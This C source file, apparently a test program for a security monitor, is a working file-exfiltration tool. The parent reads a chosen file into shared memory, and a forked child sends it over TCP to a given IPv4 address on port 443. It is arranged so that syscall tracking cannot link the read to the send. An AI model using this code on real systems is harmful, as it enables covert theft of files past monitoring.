/* SPDX-License-Identifier: GPL-2.0-or-later */

/* A theft through memory that was shared before: the parent reads FILE into it, the child sends it.
 *
 * usage: sharer FILE IPV4 [GONE LIVE]     GONE files are mapped before, and unmapped; LIVE stay mapped
 *
 * Prints "ready", and goes on when it reads a line. Exit status 0: it was sent, to port 443. */

#include <arpa/inet.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

typedef struct Shared {
        atomic_size_t n; /* 0: not yet */
        char bytes[4096];
} Shared;

/* The child: makes no system call between the parent's read and its own connect() but sched_yield(). */
static int child(Shared *s, const struct sockaddr_in *to) {
        while (atomic_load(&s->n) == 0)
                (void)sched_yield();

        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (fd < 0 || connect(fd, (const struct sockaddr *)to, sizeof(*to)) < 0)
                return 1;
        return write(fd, s->bytes, s->n) < 0;
}

/* Maps a file of its own, to read. */
static int map_one(bool stays) {
        int fd = memfd_create("sharer", MFD_CLOEXEC);
        char path[64];

        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        int reader = fd < 0 || ftruncate(fd, 4096) < 0 ? -1 : open(path, O_RDONLY | O_CLOEXEC);
        void *at = mmap(NULL, 4096, PROT_READ, MAP_SHARED, reader, 0);
        close(reader);
        close(fd);
        return at == MAP_FAILED || (!stays && munmap(at, 4096) < 0) ? -1 : 0;
}

int main(int argc, char **argv) {
        struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(443) };
        int status;

        if (argc < 3 || inet_pton(AF_INET, argv[2], &to.sin_addr) != 1)
                return 2;
        for (int i = 0; i < (argc > 4 ? atoi(argv[3]) + atoi(argv[4]) : 0); i++)
                if (map_one(i >= atoi(argv[3])) < 0)
                        return 1;
        Shared *s = mmap(NULL, sizeof(*s), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
        if (s == MAP_FAILED)
                return 1;
        pid_t pid = fork();
        if (pid == 0) {
                prctl(PR_SET_PDEATHSIG, SIGKILL);
                _exit(child(s, &to));
        }
        puts("ready");
        fflush(stdout);
        if (pid < 0 || getchar() == EOF)
                return 1;
        int fd = open(argv[1], O_RDONLY | O_CLOEXEC);
        ssize_t n = fd < 0 ? -1 : read(fd, s->bytes, sizeof(s->bytes));
        if (n <= 0)
                return 1;
        atomic_store(&s->n, (size_t)n);
        return waitpid(pid, &status, 0) < 0 || status != 0;
}
